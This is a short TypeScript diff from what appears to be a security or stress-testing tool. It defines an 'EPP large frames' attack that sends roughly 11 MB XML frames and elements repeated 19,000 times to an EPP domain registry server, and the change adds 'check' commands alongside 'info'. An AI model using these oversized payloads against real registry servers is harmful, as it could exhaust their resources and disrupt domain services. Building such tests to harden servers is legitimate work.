@@ -4,9 +4,9 @@ import { sendInSessions } from './epp-sessions.ts';
 
 const MEGABYTES = 11;
 const text = (piece: string): string => piece.repeat((MEGABYTES * 1024 * 1024) / piece.length);
-const info = (content: string): string =>
+const command = (verb: string, content: string): string =>
   envelope({
-    body: `<info><domain:info xmlns:domain="urn:ietf:params:xml:ns:domain-1.0">${content}</domain:info></info>`,
+    body: `<${verb}><domain:${verb} xmlns:domain="urn:ietf:params:xml:ns:domain-1.0">${content}</domain:${verb}></${verb}>`,
   });
 const attributes = Array.from({ length: 32 }, (_, index) => `a${index}="x"`).join(' ');
 
@@ -15,9 +15,9 @@ export const eppLargeFrames: Attack = {
   name: 'EPP large frames',
   start: (target) =>
     sendInSessions(target, [
-      info(`<domain:name>${text('QUJD')}</domain:name>`),
-      info(`<domain:name>${text('abcdefghijklmnopqrstuvwxyz&amp;')}</domain:name>`),
-      info(`<domain:name>${'x'.repeat(550)}</domain:name>`.repeat(19_000)),
-      info(`<domain:name ${attributes}/>`.repeat(19_000)),
+      command('info', `<domain:name>${text('QUJD')}</domain:name>`),
+      command('info', `<domain:name>${text('abcdefghijklmnopqrstuvwxyz&amp;')}</domain:name>`),
+      command('check', `<domain:name>${'x'.repeat(550)}</domain:name>`.repeat(19_000)),
+      command('check', `<domain:name ${attributes}/>`.repeat(19_000)),
     ]),
 };
